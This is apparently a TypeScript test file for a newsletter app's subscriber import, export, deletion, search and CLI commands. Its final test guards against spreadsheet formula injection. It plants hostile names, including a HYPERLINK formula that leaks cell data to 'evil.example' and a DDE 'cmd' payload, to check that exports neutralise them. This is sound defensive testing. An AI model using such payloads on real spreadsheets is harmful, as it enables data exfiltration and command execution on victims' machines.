// Subscribers: CSV import (confirmed and double opt-in, flexible headers, bad rows reported by line,
// idempotent re-runs, opt-outs respected), export, delete for good, list/search with counts, and the
// CLI import command through runCommand.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import fs from 'node:fs';
import path from 'node:path';
import { parse } from 'csv-parse/sync';
import { startTestApp } from './helpers/app.ts';
import { tmpDir } from './helpers/db.ts';
import { memoryIO } from '../src/cli/io.ts';
import { runCommand } from '../src/cli/run.ts';
import { seedNewsletters } from '../src/newsletters/newsletters.ts';
import { importSubscribersCsv, exportSubscribersCsv, deleteSubscriber, listSubscribers, subscriberCounts, addSubscriber } from '../src/newsletters/subscribers.ts';
import { unsubscribe } from '../src/newsletters/signup.ts';
import { recordMailEvents } from '../src/newsletters/bounces.ts';
import { runDueJobs } from '../src/platform/jobs.ts';
import { createWebhook } from '../src/webhooks/webhooks.ts';
import { jobRegistry } from '../src/jobs.ts';
import { listOutbox, outboxDir } from '../src/mail/outbox.ts';
import '../src/newsletters/signup-jobs.ts';

const NOW = '2026-11-20T12:00:00Z';
const t = await startTestApp({ now: NOW });
const { db } = t.deps;
await seedNewsletters(db);
const dir = tmpDir();

async function subs(email: string) {
  return db.query(`SELECT n.slug, s.status, s.source, s.consent_at FROM subscriptions s JOIN newsletters n ON n.id = s.newsletter_id JOIN people p ON p.id = s.person_id WHERE p.email_normalized = $1 ORDER BY n.slug`, [email]);
}

test('confirmed import: flexible headers, consent time kept, bad rows reported by line, good rows imported', async () => {
  const csv = [
    'E-mail Address,First Name,Last Name,Lists,Opt-in Time',
    'ada@example.org,Ada,Lovelace,good-news,2024-03-01T09:30:00Z',
    'not an address,Bad,Row,,',
    'grace@example.org,Grace,Hopper,,1709285400',
    'ada@example.org,Ada,Again,,',
    'linus@example.org,Linus,,nope,',
    'kat@example.org,Kat,,,yesterday-ish',
    '',
  ].join('\r\n');
  const r = await importSubscribersCsv(t.deps, csv, { newsletter: 'daily', confirmed: true });
  assert.equal(r.added, 2);
  assert.equal(r.verificationQueued, 0);
  assert.deepEqual(r.errors.map((e) => e.line), [3, 5, 6, 7]);
  assert.match(r.errors[0]!.message, /"not an address" is not a valid email address/);
  assert.match(r.errors[1]!.message, /appears earlier in the file/);
  assert.match(r.errors[2]!.message, /no newsletter called "nope"/);
  assert.match(r.errors[3]!.message, /consent time "yesterday-ish" is not a date/);
  const ada = await subs('ada@example.org');
  assert.deepEqual(ada.map((s) => [s.slug, s.status, s.source]), [['daily', 'confirmed', 'import'], ['good-news', 'confirmed', 'import']]);
  assert.equal(ada[0]!.consent_at.toISOString(), '2024-03-01T09:30:00.000Z');
  assert.equal((await db.one<any>(`SELECT name FROM people WHERE email_normalized = 'ada@example.org'`))!.name, 'Ada Lovelace');
  assert.equal((await subs('grace@example.org'))[0]!.consent_at.toISOString(), '2024-03-01T09:30:00.000Z');
  assert.equal((await db.one<any>(`SELECT count(*)::int AS n FROM jobs WHERE name = 'newsletters.send_verification'`))!.n, 0);

  const again = await importSubscribersCsv(t.deps, csv, { newsletter: 'daily', confirmed: true });
  assert.equal(again.added, 0, 'idempotent');
  assert.equal(again.unchanged, 2);
});

test('names with control characters: an import reports the line; adding one with control characters or a lone surrogate is a clear error', async () => {
  const csv = ['email,name', 'ctl@example.org,"Ctl\u0001Char"', 'nul@example.org,"Nul\u0000"', 'esc@example.org,"\u001b[31mRed"', 'fine@example.org,Fine Name', ''].join('\n');
  for (const confirmed of [true, false]) {
    const r = await importSubscribersCsv(t.deps, csv, { newsletter: 'daily', confirmed });
    assert.deepEqual(r.errors.map((e) => e.line), [2, 3, 4]);
    assert.match(r.errors[0]!.message, /name contains control characters/);
    assert.match(r.errors[2]!.message, /name contains control characters.*skipped/);
  }
  assert.equal((await db.one<{ n: number }>(`SELECT count(*)::int AS n FROM people WHERE email_normalized IN ('ctl@example.org', 'nul@example.org', 'esc@example.org')`))!.n, 0);
  assert.equal((await subs('fine@example.org'))[0]!.status, 'confirmed');
  for (const confirmed of [true, false]) {
    await assert.rejects(addSubscriber(t.deps, { email: 'added@example.org', name: 'A\u0000B', newsletters: ['daily'], confirmed }), (e: any) => e.status === 400 && /control characters/.test(e.message) && e.fields?.name === 'invalid');
    await assert.rejects(addSubscriber(t.deps, { email: 'added@example.org', name: '\udfff', newsletters: ['daily'], confirmed }), (e: any) => e.status === 400 && /not valid text/.test(e.message));
  }
  assert.equal(await db.one(`SELECT 1 FROM people WHERE email_normalized = 'added@example.org'`), undefined);
});

test('a large import goes in batches: every row once, earlier opt-outs kept out, webhooks told of each person', async () => {
  const { webhook } = await createWebhook(db, { url: 'https://hooks.example/subscribers', events: ['subscriber.created', 'subscriber.confirmed'] });
  await importSubscribersCsv(t.deps, 'email\nbulk7@example.org\n', { newsletter: 'daily', confirmed: true });
  await unsubscribe(db, (await db.one<{ id: number }>(`SELECT id FROM people WHERE email_normalized = 'bulk7@example.org'`))!.id, null, new Date(NOW));
  await db.query(`DELETE FROM webhook_deliveries`);
  // Three batches of up to 500 (every webhook event costs a few statements per row, so not three of
  // the 1,000 an import takes by default), over the 1,000 rows after which an import analyses its tables.
  const n = 1200;
  const batchSize = 500;
  const csv = ['email,name', ...Array.from({ length: n }, (_, i) => `Bulk${i}@Example.org,Bulk ${i}`), ''].join('\n');
  const progress: number[] = [];
  const r = await importSubscribersCsv(t.deps, csv, { newsletter: 'daily', confirmed: true, batchSize, onProgress: (done) => progress.push(done) });
  assert.deepEqual(progress, [500, 1000, 1200], 'written a batch at a time');
  assert.equal(r.added, n - 1);
  assert.equal(r.keptOut, 1, 'the one who unsubscribed stays out');
  assert.equal(r.errors.length, 0);
  const stored = await db.one<{ people: number; confirmed: number }>(
    `SELECT count(DISTINCT p.id)::int AS people, count(*) FILTER (WHERE s.status = 'confirmed')::int AS confirmed
       FROM people p JOIN subscriptions s ON s.person_id = p.id WHERE p.email_normalized LIKE 'bulk%@example.org'`,
  );
  assert.deepEqual(stored, { people: n, confirmed: n - 1 });
  const events = await db.query<{ event: string; n: number }>(`SELECT event, count(*)::int AS n FROM webhook_deliveries WHERE webhook_id = $1 GROUP BY event ORDER BY event`, [webhook.id]);
  assert.deepEqual(events, [{ event: 'subscriber.confirmed', n: n - 1 }, { event: 'subscriber.created', n: n - 1 }]);
  const one = await db.one<{ payload: any }>(`SELECT payload FROM webhook_deliveries WHERE event = 'subscriber.created' AND payload->'subscriber'->>'email' = 'Bulk42@Example.org'`);
  assert.deepEqual(one!.payload.subscriber.newsletters, ['daily']);
  const again = await importSubscribersCsv(t.deps, csv, { newsletter: 'daily', confirmed: true }); // in batches of 1,000
  assert.equal(again.added, 0);
  assert.equal(again.unchanged, n - 1);
  await db.query(`DELETE FROM webhooks WHERE id = $1`, [webhook.id]);
  await db.query(`DELETE FROM jobs WHERE name = 'webhooks.deliver'`);
});

test('unconfirmed import: pending subscriptions and one verification email queued per person', async () => {
  const r = await importSubscribersCsv(t.deps, 'email,name\nnew.one@example.org,New One\nnew.two@example.org,\n', { newsletter: 'morning', confirmed: false });
  assert.equal(r.added, 2);
  assert.equal(r.verificationQueued, 2);
  assert.deepEqual((await subs('new.one@example.org')).map((s) => s.status), ['pending']);
  const jobs = await db.query(`SELECT payload FROM jobs WHERE name = 'newsletters.send_verification' AND status = 'queued'`);
  assert.equal(jobs.length, 2);
  // Without SMTP_URL the verification emails are written to the outbox folder.
  await runDueJobs(t.deps, jobRegistry);
  const files = listOutbox(t.deps.config.dataDir);
  assert.equal(files.length, 2);
  const eml = files.map((f) => fs.readFileSync(path.join(outboxDir(t.deps.config.dataDir), f), 'utf8')).find((m) => m.includes('To: New One <new.one@example.org>') || m.includes('new.one@example.org'))!;
  assert.match(eml, /Subject: Please confirm your subscription to Morning Briefing/);
  assert.match(eml, /https:\/\/news\.example\/newsletters\/confirm\?t=/);
});

test('an import never re-subscribes someone who unsubscribed or bounced', async () => {
  await addSubscriber(t.deps, { email: 'left@example.org', newsletters: ['daily'], confirmed: true });
  const p = (await db.one<any>(`SELECT id FROM people WHERE email_normalized = 'left@example.org'`))!;
  await unsubscribe(db, p.id, null, new Date(NOW));
  await addSubscriber(t.deps, { email: 'bounced@example.org', newsletters: ['morning'], confirmed: true });
  await recordMailEvents(db, [{ kind: 'hard_bounce', email: 'bounced@example.org', source: 'postmark', detail: '550', sourceRef: 'x1' }], new Date(NOW));
  const r = await importSubscribersCsv(t.deps, 'email\nleft@example.org\nbounced@example.org\n', { newsletter: 'daily', confirmed: true });
  assert.equal(r.added, 0);
  assert.equal(r.keptOut, 2);
  assert.deepEqual((await subs('left@example.org')).map((s) => s.status), ['unsubscribed']);
  assert.deepEqual((await subs('bounced@example.org')).map((s) => s.slug), ['morning']);
});

test('export: CSV that names each person\'s newsletters, re-importable; per newsletter with status', async () => {
  const { csv, count } = await exportSubscribersCsv(db);
  const rows = parse(csv, { columns: true }) as Record<string, string>[];
  assert.equal(rows.length, count);
  const ada = rows.find((r) => r.email === 'ada@example.org')!;
  assert.equal(ada.newsletters, 'daily;good-news');
  assert.equal(ada.consent_at, '2024-03-01T09:30:00.000Z');
  const left = rows.find((r) => r.email === 'left@example.org')!;
  assert.equal(left.newsletters, '');
  assert.equal(left.unsubscribed, 'daily');
  const morning = parse((await exportSubscribersCsv(db, { newsletter: 'morning' })).csv, { columns: true }) as Record<string, string>[];
  assert.deepEqual(morning.map((r) => [r.email, r.status]).sort(), [['bounced@example.org', 'confirmed'], ['new.one@example.org', 'pending'], ['new.two@example.org', 'pending']]);
});

test('list, search and counts', async () => {
  const { rows, total } = await listSubscribers(db, { q: 'lovelace' });
  assert.equal(total, 1);
  assert.deepEqual(rows[0]!.subscriptions, { daily: 'confirmed', 'good-news': 'confirmed' });
  const pending = await listSubscribers(db, { newsletter: 'morning', status: 'pending' });
  assert.equal(pending.total, 2);
  const counts = await subscriberCounts(db);
  const morning = counts.find((c) => c.slug === 'morning')!;
  assert.deepEqual({ ...morning }, { slug: 'morning', name: 'Morning Briefing', pending: 2, confirmed: 0, unsubscribed: 0, suppressed: 1 });
});

test('delete really removes the person, subscriptions, mail events and queued jobs', async () => {
  const p = (await db.one<any>(`SELECT id FROM people WHERE email_normalized = 'bounced@example.org'`))!;
  assert.equal((await db.one<any>(`SELECT count(*)::int AS n FROM mail_events WHERE email_normalized = 'bounced@example.org'`))!.n, 1);
  const io = memoryIO();
  assert.equal(await runCommand(['subscribers', 'delete', 'Bounced@example.org'], dir, io, t.deps), 0);
  assert.match(io.lines[0]!, /^Deleted Bounced@example.org/);
  assert.equal(await db.one(`SELECT 1 FROM people WHERE id = $1`, [p.id]), undefined);
  assert.equal(await db.one(`SELECT 1 FROM subscriptions WHERE person_id = $1`, [p.id]), undefined);
  assert.equal(await db.one(`SELECT 1 FROM mail_events WHERE email_normalized = 'bounced@example.org' OR person_id = $1`, [p.id]), undefined);
  assert.equal((await deleteSubscriber(db, 'bounced@example.org')).deleted, false);
});

test('CLI: subscribers import FILE.csv --newsletter SLUG [--confirmed], with progress and line errors', async () => {
  fs.writeFileSync(path.join(dir, 'list.csv'), 'email,name,consent_at\ncli.one@example.org,Cli One,2025-01-02T03:04:05Z\nbroken,,\ncli.two@example.org,,\n');
  const io = memoryIO();
  const code = await runCommand(['subscribers', 'import', 'list.csv', '--newsletter', 'good-news', '--confirmed'], dir, io, t.deps);
  assert.equal(code, 0, io.errors.join('\n'));
  assert.deepEqual(io.errors, ['Line 3: "broken" is not a valid email address']);
  assert.equal(io.lines.at(-1), 'Read 3 row(s) from list.csv: 2 added (confirmed), 0 already subscribed, 0 kept out (unsubscribed or suppressed), 1 skipped.');
  // Progress counts the file's rows (checked a batch at a time as they are imported), as "Read 3 row(s)" does.
  assert.deepEqual(io.progressEvents.at(-1), [3, 3]);
  assert.deepEqual((await subs('cli.one@example.org')).map((s) => [s.slug, s.status]), [['good-news', 'confirmed']]);

  const bad = memoryIO();
  assert.equal(await runCommand(['subscribers', 'import', 'list.csv', '--newsletter', 'weekly'], dir, bad, t.deps), 1);
  assert.match(bad.errors[0]!, /There is no newsletter called "weekly". Known newsletters: daily, morning, good-news/);
  const usage = memoryIO();
  assert.equal(await runCommand(['subscribers', 'import', 'list.csv'], dir, usage, t.deps), 2);
  assert.match(usage.errors[0]!, /--newsletter SLUG/);

  const out = memoryIO();
  assert.equal(await runCommand(['subscribers', 'export', '--newsletter', 'good-news', '--output', 'out.csv'], dir, out, t.deps), 0);
  assert.match(fs.readFileSync(path.join(dir, 'out.csv'), 'utf8'), /cli\.one@example\.org,Cli One,good-news/);
});

test('export: names that would start a spreadsheet formula are written as text, and re-import unchanged (issue 9)', { timeout: 30_000 }, async () => {
  const { signup } = await import('../src/newsletters/signup.ts');
  const { readSubscriberCsv } = await import('../src/newsletters/subscribers.ts');
  const planted: Array<[string, string]> = [
    ['formula.eq@example.org', '=HYPERLINK("https://evil.example/?"&A1,"Click")'],
    ['formula.plus@example.org', '+1+cmd|\' /C calc\'!A0'],
    ['formula.minus@example.org', '-2+3'],
    ['formula.at@example.org', '@SUM(A1:A9)'],
    ['formula.wide@example.org', '＝1+1'],
    ['plain.name@example.org', 'Ann O\'Neill'],
  ];
  // Unauthenticated sign-ups can plant these (names are free text).
  for (const [email, name] of planted) await signup(t.deps, { email, name, newsletters: ['daily'] });
  const { csv } = await exportSubscribersCsv(db);
  const rows = parse(csv, { columns: true }) as Record<string, string>[];
  for (const [email, name] of planted) {
    const row = rows.find((r) => r.email === email)!;
    assert.ok(row, email);
    if (email === 'plain.name@example.org') assert.equal(row.name, name, 'ordinary names are untouched');
    else {
      assert.equal(row.name, `'${name}`, `${email}: written with a leading apostrophe`);
      assert.doesNotMatch(row.name, /^[=+\-@\uFF1D]/);
    }
  }
  // No cell of the whole file starts a formula.
  for (const r of parse(csv) as string[][]) for (const cell of r) assert.doesNotMatch(cell, /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/, cell);
  // Our importer reads the export back to the names as typed.
  const back = readSubscriberCsv(csv).rows;
  for (const [email, name] of planted) assert.equal(back.find((r) => r.email === email)!.name, name);
});
